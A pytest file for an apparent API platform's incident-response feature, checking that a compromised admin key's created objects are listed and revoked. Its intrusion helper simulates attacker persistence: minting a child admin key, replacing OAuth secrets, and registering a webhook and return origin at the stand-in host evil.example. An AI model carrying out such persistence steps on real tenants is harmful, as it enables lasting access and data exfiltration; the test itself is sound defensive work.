"""A compromised key: one command lists all that it touched, and ends all of it."""

from datetime import timedelta

import pytest

from tests.keys import CALLS
from tests.security.world import PROVIDER, open_world
from tests.waiting import until
from unified.errors.requests import NotFound
from unified.service.connect.audit import note_connected
from unified.service.incidents import end_all, touched_by
from unified.store import connect_links


@pytest.fixture
async def world(tmp_path):
    async with open_world("sqlite", tmp_path, public_url="http://127.0.0.1:8400") as opened:
        yield opened


async def ask(world, method, path, key, body=None):
    answer = await world.client.request(method, path, json=body, headers={"Authorization": f"Bearer {key}"})
    assert answer.status_code < 300, (method, path, answer.text)
    return answer.json() if answer.content else None


async def intrusion(world):
    """What somebody does with an admin key, so as to stay."""
    stolen = await ask(
        world, "POST", "/api-keys", world.ours.keys["admin"], {"name": "s", "role": "admin", "scope": "unlimited"}
    )
    key = stolen["key"]
    child = await ask(world, "POST", "/api-keys", key, {"name": "child", "role": "admin", "scope": "unlimited"})
    account = world.ours.rows["accounts"]["id"]
    server = {"name": "agents", "account_ids": [account], "config": {}}
    hook = {"url": "https://evil.example/hook", "events": ["account.connected"]}
    made = {
        child["id"]: child,
        (one := await ask(world, "POST", "/mcp-servers", child["key"], server))["id"]: one,
        (one := await ask(world, "POST", "/connect", child["key"], {"provider": PROVIDER}))["id"]: one,
        (one := await ask(world, "POST", "/webhooks", child["key"], hook))["id"]: one,
        account: await ask(world, "PATCH", f"/accounts/{account}", key, {"name": "renamed"}),
        PROVIDER: await ask(
            world, "PUT", f"/oauth-apps/{PROVIDER}", key, {"client_id": "an-id", "client_secret": "a-client-secret"}
        ),
        world.ours.id: await ask(world, "PATCH", "/tenant", key, {"return_origins": ["https://evil.example"]}),
    }
    await ask(world, "GET", "/accounts", key)
    await until(lambda: world.services.audit.waiting == 0)
    return stolen, child, made


async def test_everything_is_listed_and_nothing_changed(world):
    stolen, _, made = await intrusion(world)
    before = await world.dump(world.ours)
    found = await touched_by(world.services, world.ours.id, stolen["id"])
    assert {one.id for one in found} == set(made)
    assert await world.dump(world.ours) == before


@pytest.mark.parametrize("revoked_before", [False, True])
async def test_everything_is_ended(world, revoked_before):
    stolen, child, _ = await intrusion(world)
    admin = world.ours.keys["admin"]
    if revoked_before:
        await ask(world, "DELETE", f"/api-keys/{stolen['id']}", admin)
    await end_all(world.services, world.ours.id, stolen["id"])
    for key in (stolen["key"], child["key"]):
        refused = await world.client.get("/accounts", headers={"Authorization": f"Bearer {key}"})
        assert refused.status_code == 401
    assert await touched_by(world.services, world.ours.id, stolen["id"]) == ()
    assert (await ask(world, "GET", f"/accounts/{world.ours.rows['accounts']['id']}", admin))["status"] == "disabled"
    assert (await ask(world, "GET", "/tenant", admin))["return_origins"] == []


async def test_a_server_that_was_taken_over_ends_too(world):
    admin, account = world.ours.keys["admin"], world.ours.rows["accounts"]["id"]
    server = await ask(world, "POST", "/mcp-servers", admin, {"name": "theirs", "account_ids": [account], "config": {}})
    stolen = await ask(world, "POST", "/api-keys", admin, {"name": "s", "role": "admin", "scope": "unlimited"})
    await ask(world, "POST", f"/mcp-servers/{server['id']}/rotate", stolen["key"])
    assert {one.id for one in await touched_by(world.services, world.ours.id, stolen["id"])} == {server["id"]}
    await end_all(world.services, world.ours.id, stolen["id"])
    listed = await ask(world, "GET", "/mcp-servers", admin)
    assert server["id"] not in {one["id"] for one in listed["data"]}


async def test_accounts_of_its_links_are_found_after_the_links_are_gone(world):
    stolen = await ask(
        world, "POST", "/api-keys", world.ours.keys["admin"], {"name": "s", "role": "admin", "scope": "unlimited"}
    )
    link = await ask(world, "POST", "/connect", stolen["key"], {"provider": PROVIDER})
    row = await connect_links.get(world.services.database, world.ours.id, link["id"])
    account = world.ours.rows["accounts"]["id"]
    await note_connected(world.services, row, account)
    await until(lambda: world.services.audit.waiting == 0)
    clock = world.services.database.clock
    world.services.database.clock = lambda: clock() + timedelta(days=3)
    assert await connect_links.purge_expired(world.services.database)
    assert account in {one.id for one in await touched_by(world.services, world.ours.id, stolen["id"])}


async def test_objects_that_a_key_only_read_are_kept(world):
    asked = {"name": "r", "role": "app", "scope": CALLS}
    reader = await ask(world, "POST", "/api-keys", world.ours.keys["admin"], asked)
    account = world.ours.rows["accounts"]["id"]
    await ask(world, "GET", f"/crm/contacts?account_id={account}&limit=1", reader["key"])
    await ask(world, "POST", f"/accounts/{account}/check", reader["key"])
    await until(lambda: world.services.audit.waiting == 0)
    assert await touched_by(world.services, world.ours.id, reader["id"]) == ()


async def test_an_unknown_key_is_not_found(world):
    with pytest.raises(NotFound, match="no such key"):
        await touched_by(world.services, world.ours.id, "key_unknown")
